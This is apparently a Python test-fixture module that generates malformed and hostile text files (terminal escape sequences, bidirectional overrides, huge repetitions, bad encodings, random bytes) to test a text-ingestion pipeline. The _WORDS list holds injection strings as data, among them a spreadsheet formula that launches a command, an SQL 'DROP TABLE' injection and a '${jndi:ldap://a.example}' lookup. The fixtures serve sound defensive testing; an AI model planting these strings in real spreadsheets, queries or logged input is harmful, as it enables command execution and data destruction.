"""Plain text: size, damage, control characters."""

from __future__ import annotations

import codecs
import random
from pathlib import Path
from typing import Final

from .case import MEGABYTE, Case, bulletin, fine, of
from .deflate import LINE

_RANDOM: Final = random.Random(7).randbytes(4096)
_ENDINGS: Final = ("txt", "html", "htm", "pdf", "docx", "doc", "zip", "tar.gz", "jsonl")


def _one_line(path: Path) -> None:
    """Write 100 MB without a line end."""
    chunk = LINE.rstrip() * (MEGABYTE // len(LINE))
    with path.open("wb") as file:
        for _ in range(100 * MEGABYTE // len(chunk)):
            file.write(chunk)


def _with(label: str, words: str, encoding: str = "utf-8") -> bytes:
    """A fine bulletin with the words in its midst and in its title."""
    text = bulletin(label).replace("城东镇", f"城{words}东镇").replace("大事记", f"大事记{words}", 1)
    return text.encode(encoding, "surrogatepass")


_WORDS: Final = (
    ("title", "\x1b]0;owned\x07", "the terminal's title"),
    ("colours", "\x1b[31m\x1b[2J\x1b[1;1H", "colours, and an empty screen"),
    ("c1", "\x9b31m\x9d0;owned\x9c", "control sequences of one character"),
    ("link", "\x1b]8;;http://attacker.example\x1b\\甲\x1b]8;;\x1b\\", "a link in the terminal"),
    ("answer", "\x1b[6n\x1b[c\x05", "questions that a terminal answers as if typed"),
    ("bell", "\a\b\b\b\x7f", "bells and backspaces"),
    ("return", "\rbulletin: all is well\r", "a line written over"),
    ("bidi", "\u202e乙\u202d\u2066\u2069", "a text shown backwards"),
    ("invisible", "\u200b\u200d\ufeff\u2060\u00ad\U000e0041", "characters that are not seen"),
    ("lines", "\u2028\u2029\x85\v\f", "line ends that are none"),
    ("markup", "[red]x[/red][/][link=http://a.example]<script>", "markup of the terminal's library"),
    ("formula", "=cmd|' /C calc'!A0", "a formula for spreadsheets"),
    ("sql", "'; DROP TABLE document; --", "SQL"),
    ("braces", "{0.__class__}%s%n${jndi:ldap://a.example}", "placeholders"),
    ("unassigned", "\U0010ffff\ufdd0\ufffe", "characters that are none"),
    ("beyond", "\U00020bb7\U0002f81a\U0001f600", "characters beyond the first plane"),
)

_REPEATED: Final = (
    ("combining", "\u0301", "100,000 accents on one character"),
    ("brackets", "(", "100,000 opening brackets"),
    ("quotes", "“《", "200,000 opening quotation marks"),
    ("dates", "4月", "100,000 beginnings of a date"),
    ("digits", "9", "a number of 100,000 digits"),
    ("numerals", "一", "a number of 100,000 Chinese digits"),
    ("names", "田、", "a list of 100,000 names"),
    ("titles", "副县长", "100,000 titles"),
    ("spaces", " ", "100,000 spaces"),
    ("line-ends", "\r\n", "100,000 line ends"),
    ("returns", "\r", "100,000 carriage returns"),
    ("headings", "【甲】\n", "100,000 headings"),
    ("emphasis", "，", "100,000 commas"),
)

TEXTS: Final = (
    *(
        Case(f"texts/with {stem}.txt", "ingested", tries, of(_with(stem, words)))
        for stem, words, tries in _WORDS
    ),
    *(
        Case(
            f"texts/many {stem}.txt",
            "either",
            tries,
            of(lambda stem=stem, words=words: fine(stem) + (words * 100_000).encode() + fine(stem + "2")),
        )
        for stem, words, tries in _REPEATED
    ),
    *(Case(f"random/bytes.{end}", "problem", "random bytes", of(_RANDOM)) for end in _ENDINGS),
    Case("random/bytes.csv", "either", "random bytes in a file that is not read", of(_RANDOM)),
    Case("random/bytes", "either", "random bytes in a file without an ending", of(_RANDOM)),
    *(Case(f"random/empty.{end}", "problem", "an empty file", of(b"")) for end in _ENDINGS),
    Case("texts/one line of 100 MB.txt", "either", "100 MB in one line", _one_line),
    Case("texts/nul.txt", "problem", "a NUL in the text", of(fine("nul") + b"\0" + fine("nul"))),
    Case("texts/nuls.txt", "problem", "NULs alone", of(bytes(100_000))),
    Case("texts/white.txt", "problem", "nothing but white space", of(" \t\r\n　\xa0".encode() * 500)),
    *(
        Case(f"texts/mark {name}.txt", "problem", "a byte order mark alone", of(mark))
        for name, mark in (
            ("utf-8", codecs.BOM_UTF8),
            ("utf-16le", codecs.BOM_UTF16_LE),
            ("utf-16be", codecs.BOM_UTF16_BE),
            ("utf-32", codecs.BOM_UTF32_LE),
        )
    ),
    Case("texts/one byte.txt", "either", "one byte", of(b"\xb4")),
    Case(
        "texts/surrogate.txt",
        "either",
        "half a character in UTF-16",
        of(codecs.BOM_UTF16_LE + _with("surrogate", "\udc00\ud800", "utf-16-le")),
    ),
    Case(
        "texts/odd.txt",
        "either",
        "UTF-16 cut in a character",
        of(codecs.BOM_UTF16_BE + bulletin("odd").encode("utf-16-be")[:-1]),
    ),
    Case("texts/utf-8 surrogate.txt", "either", "a surrogate in UTF-8", of(_with("u8 surrogate", "\ud800"))),
    Case(
        "texts/overlong.txt",
        "either",
        "a slash and a NUL written longer than they are",
        of(fine("overlong") + b"\xc0\xaf\xe0\x80\x80" + fine("overlong")),
    ),
    Case("texts/cut.txt", "ingested", "UTF-8 cut in a character", of(fine("cut") + "县".encode()[:2])),
    Case(
        "texts/mixed.txt",
        "either",
        "two encodings in one file",
        of(fine("mixed") + bulletin("mixed2").encode("gb18030")),
    ),
    Case("texts/utf-32.txt", "either", "UTF-32", of(bulletin("utf-32").encode("utf-32"))),
    Case("texts/latin.txt", "either", "no Chinese at all", of(b"Lorem ipsum dolor sit amet.\n" * 40)),
    Case(
        "texts/binary.txt", "problem", "a program called .txt", of(b"\x7fELF\2\1\1" + bytes(range(256)) * 40)
    ),
    Case("texts/picture.txt", "problem", "a picture called .txt", of(b"\x89PNG\r\n\x1a\n" + _RANDOM)),
)
